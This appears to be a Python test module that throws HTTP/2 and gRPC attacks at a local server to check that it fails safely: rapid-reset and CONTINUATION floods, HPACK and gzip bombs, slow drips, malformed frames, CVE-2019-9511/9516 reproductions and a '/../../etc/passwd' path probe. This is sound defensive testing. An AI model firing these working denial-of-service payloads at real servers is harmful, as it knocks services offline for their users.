# SPDX-License-Identifier: Apache-2.0
"""The attacks: each returns what went wrong, or nothing."""
import base64
import socket
import struct
import time
import zlib

from wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, PRIORITY,
                  RST_STREAM, SETTINGS, WINDOW_UPDATE, Peer, frame, hello, message, settings)

PROTOCOL_ERROR, FRAME_SIZE_ERROR, CALM = 1, 6, 11
DEADLINE_EXCEEDED, RESOURCE_EXHAUSTED, UNIMPLEMENTED, INTERNAL = 4, 8, 12, 13
MIB = 1024 * 1024


def expect(what, got, *wanted):
    return None if got in wanted else f"{what}: {got}, not {' or '.join(map(str, wanted))}"


def flood(peer, chunks):
    for chunk in chunks:
        if not peer.send(chunk):
            break


def ends_calmly(peer):
    return expect("the code of GOAWAY", peer.goaway(), CALM)


def batches(one, n, size=100):
    """one(i) for i below n, many in a write."""
    for at in range(0, n, size):
        yield b"".join(one(i) for i in range(at, at + size))


# --- Floods ---------------------------------------------------------------------------------------

def rapid_reset(port):
    with Peer(port) as peer:
        cancel = struct.pack(">I", 8)
        flood(peer, batches(lambda i: peer.headers(2 * i + 1) + frame(RST_STREAM, 0, 2 * i + 1, cancel), 20000))
        return ends_calmly(peer)


def made_you_reset(port):
    """A window that overflows makes the server reset the stream."""
    with Peer(port) as peer:
        more = struct.pack(">I", 0x7FFFFFFF)
        flood(peer, batches(lambda i: peer.headers(2 * i + 1) + frame(WINDOW_UPDATE, 0, 2 * i + 1, more), 20000))
        return ends_calmly(peer)


def made_you_reset_by_length(port):
    with Peer(port) as peer:
        flood(peer, batches(lambda i: peer.headers(2 * i + 1, ("content-length", "1"))
                            + frame(DATA, END_STREAM, 2 * i + 1, b"12345"), 20000))
        return ends_calmly(peer)


def continuation_flood(port):
    with Peer(port) as peer:
        peer.send(frame(HEADERS, 0, 1, peer.encoder.encode([(":method", "POST")])))
        flood(peer, batches(lambda i: frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"), 100000))
        return ends_calmly(peer)


def empty_continuation_flood(port):
    with Peer(port) as peer:
        peer.send(frame(HEADERS, 0, 1))
        flood(peer, batches(lambda i: frame(CONTINUATION, 0, 1), 100000))
        return ends_calmly(peer)


def hpack_bomb(port):
    """One field of 3,900 bytes in the table, named 12,000 times: 47 MB out of 16 KB."""
    field = b"\x40\x01a\x7f" + bytes([(3900 - 127) & 127 | 128, (3900 - 127) >> 7]) + b"x" * 3900
    with Peer(port) as peer:
        for i in range(20):
            peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, field + b"\xbe" * 12000))
        problem = expect("the first bomb", peer.status(1), "reset")
        flood(peer, (frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, b"\xbe" * 16000) for i in range(20, 1500)))
        return problem or ends_calmly(peer)


def many_small_headers(port):
    with Peer(port) as peer:
        peer.send(peer.headers(1, *((f"x{i}", "") for i in range(500)), end=True))
        problem = expect("500 fields", peer.status(1), "reset")
        peer.send(peer.headers(3) + frame(DATA, END_STREAM, 3, message(hello(b"John"))))
        return problem or expect("an honest call after it", peer.status(3), 0)


def ping_flood(port):
    with Peer(port) as peer:
        flood(peer, batches(lambda i: frame(PING, 0, 0, b"12345678"), 100000))
        return ends_calmly(peer)


def settings_flood(port):
    with Peer(port) as peer:
        flood(peer, batches(lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + i)), 100000))
        return ends_calmly(peer)


def priority_flood(port):
    with Peer(port) as peer:
        flood(peer, batches(lambda i: frame(PRIORITY, 0, 2 * i + 1, b"\x00\x00\x00\x00\x10"), 100000))
        return ends_calmly(peer)


def empty_data_flood(port):
    with Peer(port) as peer:
        peer.send(peer.headers(1))
        flood(peer, batches(lambda i: frame(DATA, 0, 1), 100000))
        return ends_calmly(peer)


def deaf_ping_flood(port):
    """Answers that nobody reads must not pile up."""
    with Peer(port, deaf=True) as peer:
        peer.socket.settimeout(10)
        end = time.monotonic() + 20
        while peer.send(frame(PING, 0, 0, b"12345678") * 1000):
            if time.monotonic() > end:
                return "it still takes pings after 20 s"
        return None


def deaf_requests(port):
    """Requests without end, of somebody who reads nothing."""
    with Peer(port, deaf=True) as peer:
        peer.socket.settimeout(10)
        flood(peer, batches(lambda i: peer.headers(2 * i + 1)
                            + frame(DATA, END_STREAM, 2 * i + 1, message(hello(b"x" * 100))), 200000))
        return None


def deaf_refusals(port):
    """More streams than are allowed, before the limit is acknowledged: each is refused by a frame."""
    with Peer(port, deaf=True) as peer:
        peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        begin = b"\x83\x86\x44\x01/\x41\x01t"  # POST / of http://t
        end = time.monotonic() + 25
        requests = batches(lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, begin), 10 ** 8, 1000)
        for batch in requests:
            if not peer.send(batch):
                return None
            if time.monotonic() > end:
                break
        return "it still takes requests after 25 s"


# --- Holding --------------------------------------------------------------------------------------

def zero_window(port):
    """Asks for answers of 512 KiB, and takes none."""
    with Peer(port, window=0) as peer:
        body = message(hello(b"x" * (MIB // 2)))
        peer.take_windows()
        peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MIB)))
        refused = 0
        for i in range(150):
            stream = 2 * i + 1
            peer.send(peer.headers(stream) + b"".join(frame(DATA, 0, stream, body[at:at + 16384])
                                                      for at in range(0, len(body), 16384))
                      + frame(DATA, END_STREAM, stream))
            if i >= 32:  # 16 MiB are held by now
                refused += peer.status(stream) == RESOURCE_EXHAUSTED
        return expect("calls refused", refused > 100, True)


def unfinished_requests(port):
    """Begins messages of 1 MiB, and finishes none."""
    with Peer(port) as peer:
        peer.take_windows()
        begin = struct.pack(">BI", 0, MIB) + b"x" * (MIB // 2)
        refused = 0
        for i in range(150):
            stream = 2 * i + 1
            peer.send(peer.headers(stream) + b"".join(frame(DATA, 0, stream, begin[at:at + 16384])
                                                      for at in range(0, len(begin), 16384)))
            if i >= 32:
                refused += peer.status(stream) == RESOURCE_EXHAUSTED
        return expect("calls refused", refused > 100, True)


def drip(peer, data):
    """A byte now and then, until the other side has had enough."""
    end = time.monotonic() + 30
    for byte in data * 1000:
        if time.monotonic() > end:
            return "it still waits after 30 s"
        if peer.closed or not peer.send(bytes([byte])):
            return None
        time.sleep(0.1)
    return None


def slow_preface(port):
    with Peer(port, greet=False) as peer:
        peer.send(PREFACE[:10])
        return expect("the code of GOAWAY", peer.goaway(), CALM)


def silence(port):
    with Peer(port, greet=False) as peer:
        return expect("the code of GOAWAY", peer.goaway(), CALM)


def slow_headers(port):
    with Peer(port) as peer:
        return drip(peer, frame(HEADERS, 0, 1, b"\x83" + b"\x00\x01a\x01b" * 200)) or ends_calmly(peer)


def headers_without_end(port):
    with Peer(port) as peer:
        peer.send(frame(HEADERS, 0, 1, b"\x83"))
        return ends_calmly(peer)


def slow_body(port):
    with Peer(port) as peer:
        peer.send(peer.headers(1) + frame(DATA, 0, 1, b"\0\0\0"))
        problem = expect("the slow call", peer.status(1), DEADLINE_EXCEEDED)
        peer.send(peer.headers(3) + frame(DATA, END_STREAM, 3, message(hello(b"John"))))
        return problem or expect("a call after it", peer.status(3), 0)


# --- Lies -----------------------------------------------------------------------------------------

def body(name, expected, *parts, extra=()):
    def attack(port):
        with Peer(port) as peer:
            frames = b"".join(frame(DATA, 0, 1, part) for part in parts)
            peer.send(peer.headers(1, *extra) + frames + frame(DATA, END_STREAM, 1))
            problem = expect("the call", peer.status(1), expected)
            peer.send(peer.headers(3) + frame(DATA, END_STREAM, 3, message(hello(b"John"))))
            return problem or expect("an honest call after it", peer.status(3), 0)
    return name, attack


def gzip_bomb(port):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(MIB)) for _ in range(512)) + packer.flush()
    packed = message(packed, 1)
    with Peer(port) as peer:
        peer.take_windows()
        peer.send(peer.headers(1, ("grpc-encoding", "gzip"))
                  + b"".join(frame(DATA, 0, 1, packed[at:at + 16384]) for at in range(0, len(packed), 16384))
                  + frame(DATA, END_STREAM, 1))
        return expect("the call", peer.status(1), RESOURCE_EXHAUSTED)


def oversized_frame(port):
    with Peer(port) as peer:
        peer.send(peer.headers(1) + frame(DATA, 0, 1, bytes(20000)))
        return expect("the code of GOAWAY", peer.goaway(), FRAME_SIZE_ERROR)


def oversized_ping(port):
    with Peer(port) as peer:
        peer.send(frame(PING, 0, 0, b"123456789"))
        return expect("the code of GOAWAY", peer.goaway(), FRAME_SIZE_ERROR)


def truncated_frames(port):
    for cut in range(1, 30, 4):
        with Peer(port) as peer:
            peer.send((peer.headers(1) + frame(DATA, END_STREAM, 1, message(hello(b"John"))))[:-cut])
    return None


def not_http(port):
    with Peer(port, greet=False) as peer:
        peer.send(b"GET / HTTP/1.1\r\nHost: test\r\n\r\n")
        peer.wait(lambda f: False)  # it closes
        return None


def bad_timeouts(port):
    with Peer(port) as peer:
        bad = ["", "1", "S", "-1S", "+1S", "1s", "1 S", " 1S", "0x1S", "1.5S", "123456789S", "9" * 30 + "H", "1SS"]
        for i, value in enumerate(bad):
            stream = 2 * i + 1
            peer.send(peer.headers(stream, ("grpc-timeout", value))
                      + frame(DATA, END_STREAM, stream, message(hello(b"John"))))
            problem = expect(f"grpc-timeout “{value}”", peer.status(stream), INTERNAL, "reset")
            if problem:
                return problem
    return None


def bad_metadata(port):
    """Nobody here reads it, so nobody complains; what a handler reads it decodes itself."""
    with Peer(port) as peer:
        bad = ["!!!!", "=", "A", "====", "QQ=Q", "é", "A" * 8000, base64.b64encode(bytes(range(256))).decode()]
        for i, value in enumerate(bad):
            stream = 2 * i + 1
            peer.send(peer.headers(stream, ("x-bin", value), ("grpc-status-details-bin", value))
                      + frame(DATA, END_STREAM, stream, message(hello(b"John"))))
            problem = expect(f"-bin “{value[:20]}”", peer.status(stream), 0, "reset")
            if problem:
                return problem
    return None


def bad_paths(port):
    with Peer(port) as peer:
        bad = ["/", "//", "/../../etc/passwd", "/greeter.Say/", "/greeter.Say/Hello/..", "/%00/%ff", "/é/ü", "/" + "a" * 9000]
        for i, path in enumerate(bad):
            stream = 2 * i + 1
            peer.send(peer.headers(stream, path=path) + frame(DATA, END_STREAM, stream, message(hello(b"John"))))
            problem = expect(f"path “{path[:20]}”", peer.status(stream), UNIMPLEMENTED, "reset")
            if problem:
                return problem
    return None


def bad_methods(port):
    bad = [[(":method", "CONNECT"), (":authority", "test")],
           [(":method", "OPTIONS"), (":scheme", "http"), (":path", "*"), (":authority", "test")],
           [(":method", "POST"), (":scheme", "http"), (":authority", "test")],
           [(":scheme", "http"), (":path", "/greeter.Say/Hello")],
           [(":method", ""), (":scheme", "http"), (":path", "/greeter.Say/Hello")],
           []]
    with Peer(port) as peer:
        for i, fields in enumerate(bad):
            stream = 2 * i + 1
            fields = fields + [("te", "trailers"), ("content-type", "application/grpc")]
            peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, peer.encoder.encode(fields)))
            answer = peer.wait(lambda f: f[2] == stream and f[0] in (HEADERS, RST_STREAM))
            if answer is None or answer[0] == HEADERS and answer[3][":status"] != "405":
                return f"{fields[0]} was answered with {answer}"
        stream = 2 * len(bad) + 1
        peer.send(peer.headers(stream) + frame(DATA, END_STREAM, stream, message(hello(b"John"))))
        return expect("an honest call after them", peer.status(stream), 0)


def nameless_fields(port):
    """CVE-2019-9516: fields without a name and a value."""
    with Peer(port) as peer:
        begin = b"\x83\x86\x44\x01/\x41\x01t" + b"\x00\x00\x00" * 100
        flood(peer, batches(lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, begin), 20000))
        return ends_calmly(peer)


def dribble(port):
    """CVE-2019-9511: takes its answer byte by byte."""
    n = 20000
    with Peer(port, window=0) as peer:
        peer.take_windows()
        body = message(hello(b"x" * (MIB // 2)))
        peer.send(peer.headers(1) + b"".join(frame(DATA, 0, 1, body[at:at + 16384])
                                             for at in range(0, len(body), 16384)) + frame(DATA, END_STREAM, 1))
        flood(peer, batches(lambda i: frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1"), n))
        got = []
        peer.wait(lambda f: f[0] == DATA and (got.append(len(f[3])) or sum(got) >= n))
        problem = expect("bytes of the answer", sum(got), n)
        peer.send(settings(window=65535) + peer.headers(3) + frame(DATA, END_STREAM, 3, message(hello(b"John"))))
        return problem or expect("an honest call beside it", peer.status(3), 0)


# --- TLS ------------------------------------------------------------------------------------------

def slow_tls(port):
    begun = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    with socket.create_connection(("127.0.0.1", port), 30) as peer:
        peer.sendall(begun)
        while peer.recv(100):  # an alert, perhaps, and the end
            pass
    return None


def dripping_tls(port):
    class Dripping:
        closed = False

        def __init__(self, connection):
            self.connection = connection

        def send(self, data):
            try:
                self.connection.sendall(data)
                return True
            except OSError:
                return False
    with socket.create_connection(("127.0.0.1", port), 30) as peer:
        return drip(Dripping(peer), b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")


def no_tls(port):
    with socket.create_connection(("127.0.0.1", port), 30) as peer:
        peer.sendall(PREFACE)
        try:
            while peer.recv(100):
                pass
        except ConnectionResetError:
            pass
    return None


PLAIN = [(attack.__name__.replace("_", " "), attack) for attack in (
    rapid_reset, made_you_reset, made_you_reset_by_length, continuation_flood, empty_continuation_flood,
    hpack_bomb, many_small_headers, ping_flood, settings_flood, priority_flood, empty_data_flood,
    deaf_ping_flood, deaf_requests, deaf_refusals, zero_window, unfinished_requests, silence, slow_preface, slow_headers,
    headers_without_end, slow_body, gzip_bomb, oversized_frame, oversized_ping, truncated_frames, not_http,
    bad_timeouts, bad_metadata, bad_paths, bad_methods, nameless_fields, dribble)] + [
    body("4 GiB length prefix", RESOURCE_EXHAUSTED, b"\0\xff\xff\xff\xff"),
    body("truncated message", INTERNAL, b"\0\0\0\0\x64" + b"x" * 10),
    body("truncated prefix", INTERNAL, b"\0\0\0"),
    body("strange flag", INTERNAL, b"\x07\0\0\0\x01x"),
    body("not gzip", INTERNAL, message(b"nonsense", 1), extra=(("grpc-encoding", "gzip"),)),
]
TLS = [(attack.__name__.replace("_", " "), attack) for attack in (slow_tls, dripping_tls, no_tls)]
